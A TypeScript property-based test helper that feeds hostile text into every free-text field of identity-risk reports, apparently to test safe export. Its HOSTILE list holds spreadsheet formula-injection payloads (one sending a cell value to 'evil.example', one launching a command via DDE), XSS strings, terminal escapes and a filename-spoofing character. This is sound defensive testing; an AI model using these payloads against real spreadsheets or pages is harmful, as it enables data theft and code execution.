import fc from 'fast-check'
import { instant } from '../../../shared/domain/identifiers.ts'
import type { Report } from '../../../shared/operations/report/read-report.ts'
import { anyCodePoint } from '../../support/any-code-point.ts'
import { detection, riskyIdentity } from '../../support/archived-events.ts'

export const FROM = instant(Date.UTC(2026, 2, 1))
export const TO = instant(Date.UTC(2026, 2, 31))

const RANGE = { from: FROM, to: TO, source: { kind: 'archive', blobs: 3 }, more: false } as const

/** What people who name applications can think of. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '\uff1d1+1',
  'harmless;=1+1',
  'harmless; "=1+1',
  'a,b;c',
  'line one\nline two',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</style><svg onload=alert(1)>',
  '\u001b[2J\u001b]0;owned\u0007',
  'invoice\u202egpj.exe',
  'nul\u0000byte',
  '名前, "引用符"',
]

export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: anyCodePoint, maxLength: 20 }),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '"', "'", '\n', '\r', '\t', ' ', '<', 'a'),
  }),
)

/** A report whose every free text is the one given. */
export const hostileReport = (report: Report['report'], text: string): Report => {
  const identity = {
    type: 'agent',
    id: text,
    displayName: text,
    appId: text,
    subtype: text,
    blueprintId: text,
  } as const
  const risk = { level: text, state: text, detail: text }
  return report === 'risky'
    ? { report, ...RANGE, events: [riskyIdentity('a', { identity, risk })] }
    : {
        report,
        ...RANGE,
        events: [
          detection('a', {
            identity,
            risk: { ...risk, eventType: text },
            detectionId: text,
            ipAddress: text,
            location: { city: text, state: text, countryOrRegion: text },
            keyIds: [text],
            evidence: text,
            source: text,
            timingType: text,
            activity: text,
            requestId: text,
            correlationId: text,
            clientSessionId: text,
            attack: { techniques: [text], origin: 'wire' },
            detection: { name: text, description: text, severity: 'high', links: [text] },
          }),
        ],
      }
}
